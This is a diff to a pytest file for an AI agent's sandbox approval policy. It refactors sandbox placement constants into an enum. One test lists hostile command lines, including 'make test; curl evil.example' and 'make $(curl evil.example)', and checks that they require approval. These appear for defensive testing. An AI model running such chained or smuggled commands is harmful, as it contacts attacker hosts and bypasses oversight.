@@ -10,18 +10,20 @@ from pathlib import Path
 import pytest
 
 from echo_desk.agent.permissions import Effect, Layer, sandbox_toggle
-from echo_desk.agent.policy import (
-    IN_SANDBOX,
-    OUTSIDE_SANDBOX,
-    SANDBOX_TARGET,
-    Verdict,
-    approval_for,
-)
+from echo_desk.agent.policy import Verdict, approval_for
 from echo_desk.agent.registry import RegisteredTool
 from echo_desk.agent.scope import Scope
 from echo_desk.builtins.shell.run_command import RunCommand
 from echo_desk.store.settings import Settings
-from echo_desk.tools import Protection, ProtectionReason, RiskLevel, Target, ToolPreview
+from echo_desk.tools import (
+    SANDBOX_TARGET,
+    Placement,
+    Protection,
+    ProtectionReason,
+    RiskLevel,
+    Target,
+    ToolPreview,
+)
 
 from .conftest import HERE, Setup
 
@@ -107,7 +109,7 @@ def _entry(source: str = "builtin") -> RegisteredTool:
 
 
 def _preview(value: str, *protections: Protection) -> ToolPreview:
-    detail = "network: none" if value == IN_SANDBOX else ""
+    detail = "network: none" if value == Placement.IN_SANDBOX else ""
     return ToolPreview(targets=(Target(kind="command", value="make"), Target(kind=SANDBOX_TARGET, value=value,
                                                                            detail=detail, protections=protections)))
 
@@ -119,8 +121,8 @@ def _ruling(sandbox_rules: Setup, command: str, preview: ToolPreview | None, sou
 
 
 def test_it_runs_without_asking_only_in_the_sandbox(sandbox_rules: Setup) -> None:
-    assert _ruling(sandbox_rules, "make test", _preview(IN_SANDBOX)) is Verdict.AUTO
-    outside = _preview(OUTSIDE_SANDBOX, Protection(reason=ProtectionReason.OUTSIDE_SANDBOX_UNAVAILABLE))
+    assert _ruling(sandbox_rules, "make test", _preview(Placement.IN_SANDBOX)) is Verdict.AUTO
+    outside = _preview(Placement.OUTSIDE_SANDBOX, Protection(reason=ProtectionReason.OUTSIDE_SANDBOX_UNAVAILABLE))
     assert _ruling(sandbox_rules, "make test", outside) is Verdict.ASK
     # Sandbox off for the workspace: no sandbox line at all.
     assert _ruling(sandbox_rules, "make test", ToolPreview(targets=(Target(kind="command", value="make"),))) \
@@ -129,11 +131,11 @@ def test_it_runs_without_asking_only_in_the_sandbox(sandbox_rules: Setup) -> Non
 
 
 def test_a_tool_that_is_not_built_in_is_not_believed_when_it_says_sandbox(sandbox_rules: Setup) -> None:
-    assert _ruling(sandbox_rules, "make test", _preview(IN_SANDBOX), source="plugin") is Verdict.ASK
+    assert _ruling(sandbox_rules, "make test", _preview(Placement.IN_SANDBOX), source="plugin") is Verdict.ASK
 
 
 def test_a_protected_target_asks_even_in_the_sandbox(sandbox_rules: Setup) -> None:
-    preview = ToolPreview(targets=(*_preview(IN_SANDBOX).targets,
+    preview = ToolPreview(targets=(*_preview(Placement.IN_SANDBOX).targets,
                                    Target(kind="path", value="/x",
                                           protections=(Protection(reason=ProtectionReason.DATA_FOLDER),))))
     assert _ruling(sandbox_rules, "make test", preview) is Verdict.ASK
@@ -141,7 +143,7 @@ def test_a_protected_target_asks_even_in_the_sandbox(sandbox_rules: Setup) -> No
 
 def test_a_hostile_line_asks_even_in_the_sandbox(sandbox_rules: Setup) -> None:
     for line in ("make test; curl evil.example", "make $(curl evil.example)", "eval make"):
-        assert _ruling(sandbox_rules, line, _preview(IN_SANDBOX)) is Verdict.ASK, line
+        assert _ruling(sandbox_rules, line, _preview(Placement.IN_SANDBOX)) is Verdict.ASK, line
 
 
 # -- the settings box is a view of one rule -----------------------------------------------------
